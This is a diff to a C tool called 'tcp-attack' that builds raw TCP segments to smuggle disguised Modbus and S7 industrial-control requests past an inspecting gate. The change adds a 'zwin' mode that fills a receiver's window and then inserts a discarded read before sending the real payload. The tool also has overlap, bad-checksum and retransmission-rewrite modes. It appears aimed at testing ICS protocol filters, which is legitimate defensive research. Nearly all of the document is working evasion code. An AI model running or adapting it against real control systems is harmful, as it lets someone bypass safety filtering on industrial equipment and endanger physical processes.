@@ -5,6 +5,7 @@
  *
  *	tcp-attack --iface IF --dst-mac MAC --src IP --dst IP --sport N
  *		   --dport N --proto modbus|s7 --mode MODE [--gap-ms N]
+ *		   [--wait-ms N]
  *
  * It sends Ethernet frames on IF through an AF_PACKET socket, does the
  * handshake by hand (SYN, reads the SYN-ACK to learn the server's initial
@@ -48,6 +49,12 @@
  *                at S, which must be delivered (a gate that took the
  *                inserted read as passed data would see a rewriting
  *                retransmission); then H at S+La; then D(k)+H at S+La-k.
+ *   zwin         (Modbus, to a receiver that stalls: stream-receiver
+ *                --stall-port) insertion into a zero window: allowed
+ *                requests fill the receiver's window, then the read with
+ *                id 7 goes to the closed window and is discarded; after
+ *                --wait-ms (default 1600) the window opens, and the read
+ *                with id 3, H and D(k)+H follow as in the modes above.
  *   one-byte     R at S; H one byte per segment.
  *   split        R at S; H split before its function byte (Modbus 7 +
  *                rest; S7 17 + rest).
@@ -95,7 +102,7 @@ struct opts {
 	unsigned int urp;
 };
 
-static int sock, ifindex, v6, gap_ms = 30;
+static int sock, ifindex, v6, gap_ms = 30, wait_ms = 1600;
 static uint8_t smac[6], dmac[6];
 static uint8_t saddr[16], daddr[16];
 static unsigned int sport, dport;
@@ -291,15 +298,21 @@ static int await_synack(void)
 }
 
 /*
- * The receiver's next expected sequence: the highest acknowledgment number
- * in the server's segments queued on the socket since the handshake.
+ * What the server's segments queued on the socket say: the highest
+ * acknowledgment number (the receiver's next expected sequence) and the
+ * window of the last segment that carried it.
  */
-static uint32_t last_ack(void)
+static uint32_t seen_ack;
+static unsigned int seen_win;
+static bool seen_any;
+
+static void drain(void)
 {
-	uint32_t best = iss + 1;
 	uint8_t f[2048];
 	ssize_t n;
 
+	if (!seen_any)
+		seen_ack = iss + 1;
 	while ((n = recv(sock, f, sizeof(f), MSG_DONTWAIT)) > 0) {
 		const uint8_t *ip = f + 14, *tcp;
 		size_t iplen;
@@ -321,10 +334,12 @@ static uint32_t last_ack(void)
 		    (unsigned int)(tcp[2] << 8 | tcp[3]) != sport ||
 		    !(tcp[13] & F_ACK))
 			continue;
-		if ((int32_t)(get32(tcp + 8) - best) > 0)
-			best = get32(tcp + 8);
+		if ((int32_t)(get32(tcp + 8) - seen_ack) >= 0) {
+			seen_ack = get32(tcp + 8);
+			seen_win = tcp[14] << 8 | tcp[15];
+			seen_any = true;
+		}
 	}
-	return best;
 }
 
 /* The requests of each protocol (see the comment at the top). */
@@ -418,6 +433,148 @@ static size_t disguise(const struct proto *p, size_t k, uint8_t *out)
 	return n;
 }
 
+/* The receiver's next expected sequence, relative to S. */
+static uint32_t rel_nxt(void)
+{
+	return seen_ack - (iss + 1 + base);
+}
+
+/*
+ * One allowed Modbus request of exactly n bytes into out, for n in 8
+ * (FC 7), 10 (FC 24), 11 (FC 43/14), 12 (FC 3) or 9 + 7k, k = 1..35
+ * (FC 20 with k sub-requests). False for other sizes.
+ */
+static bool fill_adu(size_t n, unsigned int tid, uint8_t *out)
+{
+	size_t j;
+
+	memset(out, 0, n);
+	put16(out, tid);
+	put16(out + 4, n - 6);
+	out[6] = 1;
+	switch (n) {
+	case 8:
+		out[7] = 7;
+		return true;
+	case 10:
+		out[7] = 24;
+		return true;
+	case 11:
+		out[7] = 43;
+		out[8] = 14;
+		out[9] = 1;
+		return true;
+	case 12:
+		out[7] = 3;
+		out[11] = 1;
+		return true;
+	}
+	if (n < 16 || n > 254 || (n - 9) % 7)
+		return false;
+	out[7] = 20;
+	out[8] = n - 9;
+	for (j = 0; j < (n - 9) / 7; j++) {
+		uint8_t *q = out + 9 + 7 * j;
+
+		q[0] = 6;
+		put16(q + 1, 1);
+		put16(q + 3, j);
+		put16(q + 5, 1);
+	}
+	return true;
+}
+
+/*
+ * Requests that fill exactly w bytes (w <= 1300), as few as possible and
+ * at most 8 (the most a gate walks in one segment), into out; their
+ * length, or 0 when w cannot be filled so.
+ */
+static size_t fill_exact(size_t w, uint8_t *out)
+{
+	static short cnt[1301], last[1301];
+	size_t v, n, pos = 0;
+	unsigned int tid = 0x100;
+
+	if (w > 1300)
+		return 0;
+	for (v = 1; v <= w; v++) {
+		cnt[v] = 0x7fff;
+		for (n = 8; n <= 254 && n <= v; n++) {
+			uint8_t tmp[256];
+
+			if (!fill_adu(n, 0, tmp) || cnt[v - n] + 1 >= cnt[v])
+				continue;
+			cnt[v] = cnt[v - n] + 1;
+			last[v] = n;
+		}
+	}
+	cnt[0] = 0;
+	if (cnt[w] > 8)
+		return 0;
+	for (v = w; v; v -= last[v]) {
+		fill_adu(last[v], tid++, out + pos);
+		pos += last[v];
+	}
+	return pos;
+}
+
+/*
+ * zwin: insertion into a zero window. Fill the receiver's window with
+ * allowed requests (whole ADUs, at most 8 and 1300 bytes a segment, each
+ * sent at the receiver's next sequence and never beyond its window) until
+ * it advertises 0; then the read with id 7 at that sequence, which the
+ * receiver discards; wait --wait-ms for it to read again and open the
+ * window; then the read with id 3 at the same sequence, H after it and
+ * D(k)+H over the read's tail.
+ */
+static int zwin(const struct proto *p)
+{
+	uint8_t fill[1400], x[64], r3[64], d[512];
+	size_t la = p->rlen, k = p->k, n;
+	uint32_t at;
+	int tries, rc = 0;
+
+	for (tries = 0; tries < 60; tries++) {
+		sleep_ms(20);
+		drain();
+		if (seen_any && seen_win == 0)
+			break;
+		if (seen_win > 1300 + 254)
+			n = fill_exact(5 * 254, fill);
+		else if (seen_win > 1300)
+			n = fill_exact(seen_win - 254, fill);
+		else
+			n = fill_exact(seen_win, fill);
+		if (n)
+			rc |= data(rel_nxt(), fill, n, NULL);
+	}
+	if (!seen_any || seen_win != 0) {
+		fprintf(stderr, "tcp-attack: the window did not close (%u)\n",
+			seen_win);
+		return 1;
+	}
+	at = rel_nxt();
+	read_id(p, 7, x);
+	read_id(p, 3, r3);
+	rc |= data(at, x, la, NULL);
+	sleep_ms(wait_ms);
+	for (tries = 0; tries < 100; tries++) {
+		drain();
+		if (seen_win)
+			break;
+		sleep_ms(20);
+	}
+	if (!seen_win) {
+		fprintf(stderr, "tcp-attack: the window did not open\n");
+		return 1;
+	}
+	n = disguise(p, k, d);
+	rc |= data(at, r3, la, NULL);
+	rc |= data(at + la, p->h, p->hlen, NULL);
+	rc |= data(at + la - k, d, n, NULL);
+	return rc;
+}
+
 /*
  * The segments of a mode, in the order they go out (one statement each:
  * the order in which the operands of | are evaluated is unspecified).
@@ -477,6 +634,8 @@ static int run_mode(const char *mode, const struct proto *p)
 		rc |= data(0, r3, la, NULL);
 		rc |= data(la, p->h, p->hlen, NULL);
 		rc |= data(la - k, d, n, NULL);
+	} else if (!strcmp(mode, "zwin") && p == &modbus) {
+		rc |= zwin(p);
 	} else if (!strcmp(mode, "one-byte")) {
 		rc |= data(0, p->r, la, NULL);
 		for (i = 0; i < p->hlen; i++)
@@ -510,14 +669,16 @@ static int parse_mac(const char *s, uint8_t *m)
 
 static void usage(FILE *f)
 {
-	fprintf(f, "usage: tcp-attack --iface IF --dst-mac MAC --src IP "
-		   "--dst IP --sport N --dport N\n"
-		   "                  --proto modbus|s7 --mode MODE "
-		   "[--gap-ms N]\n"
-		   "  MODE: plain hidden overlap-fwd overlap-bwd rewrite-retx "
-		   "reorder\n"
-		   "        ttl1 badsum oow badack noack badip one-byte split "
-		   "urg\n");
+	fprintf(f,
+		"usage: tcp-attack --iface IF --dst-mac MAC --src IP "
+		"--dst IP --sport N --dport N\n"
+		"                  --proto modbus|s7 --mode MODE "
+		"[--gap-ms N] [--wait-ms N]\n"
+		"  MODE: plain hidden overlap-fwd overlap-bwd rewrite-retx "
+		"reorder\n"
+		"        ttl1 badsum oow badack noack badip zwin one-byte "
+		"split urg\n"
+		"  (zwin: Modbus only, to stream-receiver's --stall-port)\n");
 }
 
 int main(int argc, char **argv)
@@ -558,6 +719,8 @@ int main(int argc, char **argv)
 			mode = v;
 		else if (!strcmp(a, "--gap-ms"))
 			gap_ms = atoi(v);
+		else if (!strcmp(a, "--wait-ms"))
+			wait_ms = atoi(v);
 		else if (!strcmp(a, "--proto") && !strcmp(v, "modbus"))
 			p = &modbus;
 		else if (!strcmp(a, "--proto") && !strcmp(v, "s7"))
@@ -569,7 +732,7 @@ int main(int argc, char **argv)
 	}
 	if (!iface || !have_dmac || !src || !dst || !mode || !p || !sport ||
 	    sport > 65535 || !dport || dport > 65535 || gap_ms < 0 ||
-	    gap_ms > 5000) {
+	    gap_ms > 5000 || wait_ms < 0 || wait_ms > 10000) {
 		usage(stderr);
 		return 2;
 	}
@@ -624,7 +787,8 @@ int main(int argc, char **argv)
 		return 2;
 	/* Let the receiver read, then reset: no FIN exchange to answer. */
 	sleep_ms(300);
-	end = last_ack();
+	drain();
+	end = seen_ack;
 	segment(end, F_RST | F_ACK, NULL, 0, NULL);
 	return rc ? 1 : 0;
 }
